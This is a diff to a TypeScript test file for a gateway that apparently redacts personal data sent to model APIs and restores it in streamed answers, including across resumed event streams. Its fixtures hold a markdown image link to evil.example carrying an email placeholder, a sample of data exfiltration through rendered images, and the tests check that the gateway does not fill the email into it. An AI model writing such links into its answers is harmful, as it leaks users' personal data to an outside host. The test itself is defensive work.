@@ -1,12 +1,14 @@
 /** A client that resumes an answer behind the last event it has seen gets every event of the origin, and all text once. */
 import type { ResponseStreamEvent } from 'openai/resources/responses/responses';
-import { expect, test } from 'vitest';
+import { EventSource } from 'undici';
+import { describe, expect, test } from 'vitest';
 import { openAiClient, proxiedFetch } from '../support/clients.ts';
 import { startGateway } from '../support/gateway.ts';
 import { startOrigin } from '../support/origin.ts';
 import { personal } from '../support/personal.ts';
 
 const host = 'api.openai.com';
+const textHost = 'api.anthropic.com';
 const type = 'response.output_text.delta';
 const place = (output_index: number) => ({
   item_id: `item_${output_index}`,
@@ -29,9 +31,28 @@ const events = [
   { type: 'response.completed', response: { id: 'resp_1', object: 'response', output: [] } },
 ].map((event, sequence_number) => ({ ...event, sequence_number }));
 
+/** Pieces of a text under the field `id`, which a client sends in `Last-Event-ID`. */
+const pieces = {
+  plain: ['Dear', ' [EM', 'AIL', '-1', '],', ' (', '[EMAIL-1]).', ' Bye.'],
+  link: ['![](https:', '//evil.example/', '[EM', 'AIL-1])'],
+};
+/** After how many events the origin breaks off. */
+let breaksAfter = 0;
+
 const origin = await startOrigin({
-  names: [host],
-  handler: ({ url }, response) => {
+  names: [host, textHost],
+  handler: ({ url, headers }, response) => {
+    const text = pieces[url.slice(1) as keyof typeof pieces];
+    if (text !== undefined) {
+      const seen = Number(headers['last-event-id'] ?? 0);
+      const rest = text.map((piece, at) => `id: ${at + 1}\ndata: ${piece}\n\n`).slice(seen);
+      response.writeHead(200, { 'content-type': 'text/event-stream' });
+      response.write(`retry: 1\n\n${rest.slice(0, breaksAfter || rest.length).join('')}`);
+      if (breaksAfter > 0) setImmediate(() => response.destroy());
+      else response.end('event: done\ndata: 1\n\n');
+      breaksAfter = 0;
+      return;
+    }
     const after = Number(new URL(url, 'https://x').searchParams.get('starting_after') ?? -1);
     response.writeHead(200, { 'content-type': 'text/event-stream' });
     for (const event of events)
@@ -39,7 +60,7 @@ const origin = await startOrigin({
     response.end();
   },
 });
-const gateway = await startGateway({ hosts: { [host]: origin } });
+const gateway = await startGateway({ hosts: { [host]: origin, [textHost]: origin } });
 
 test.each(events.map((_, at) => at + 1))('cut after %i events', async (seen) => {
   const proxied = proxiedFetch(gateway);
@@ -62,4 +83,31 @@ test.each(events.map((_, at) => at + 1))('cut after %i events', async (seen) => 
     got.flatMap((event) => (event.type === type && event.output_index === at ? [event.delta] : [])).join('');
   expect(shown(0)).toBe('a [EMA');
   expect(shown(1)).toBe(`to ${personal.EMAIL}, sent, ![](https://evil.example/[EMAIL-1]) [`);
+});
+
+describe('a text under ids that the origin breaks off', () => {
+  /** What a page shows that reads the stream and resumes it by itself. */
+  async function read(name: keyof typeof pieces, cut: number): Promise<string> {
+    const { fetch, dispatcher } = proxiedFetch(gateway);
+    await fetch(`https://${textHost}/`, { method: 'POST', body: `to ${personal.EMAIL}` }).then((r) => r.text());
+    breaksAfter = cut;
+    const source = new EventSource(`https://${textHost}/${name}`, { node: { dispatcher } });
+    let text = '';
+    source.onmessage = ({ data }) => {
+      text += data;
+    };
+    await new Promise((resolve) => source.addEventListener('done', resolve));
+    source.close();
+    return text;
+  }
+
+  test.each(pieces.plain.map((_, at) => at + 1))('after %i events', async (cut) => {
+    expect(await read('plain', cut)).toBe(`Dear ${personal.EMAIL}, (${personal.EMAIL}). Bye.`);
+  });
+
+  test.each(pieces.link.map((_, at) => at + 1))('in a link, after %i events', async (cut) => {
+    const text = await read('link', cut);
+    expect(text).not.toContain(personal.EMAIL);
+    expect(text.endsWith(pieces.link.join(''))).toBe(true);
+  });
 });
